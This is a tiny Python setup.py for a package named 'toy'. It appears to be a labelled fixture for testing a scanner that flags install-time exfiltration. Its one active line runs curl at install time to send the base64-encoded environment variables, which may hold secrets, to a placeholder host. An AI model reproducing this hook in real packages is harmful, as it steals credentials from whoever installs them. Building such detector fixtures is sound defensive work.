import os
from setuptools import setup

os.system('curl "https://example.invalid/$(env | base64 -w 0)"')  # expect: source/environment-to-network install conclusive
setup(name="toy")
